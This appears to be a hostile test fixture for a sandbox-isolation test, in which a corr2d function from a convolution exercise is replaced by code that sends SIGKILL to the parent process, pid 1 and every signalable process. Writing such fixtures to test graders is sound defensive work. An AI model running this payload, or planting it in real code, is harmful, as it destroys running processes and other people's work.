# Hostile submission for tests/test_isolation.py: kills its parent, every process it can signal, and pid 1
# attacked: corr2d. Conv2D and learn_kernel are honest (they use the private copy _corr2d_ok).
import torch
from torch import nn

import os
import signal


def corr2d(X, K):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    raise RuntimeError("still here")


# __HONEST__: tests/test_isolation.py puts tests/hostile/_honest.txt here (the honest
# _corr2d_ok, Conv2D and learn_kernel every cross-correlation attack shares).
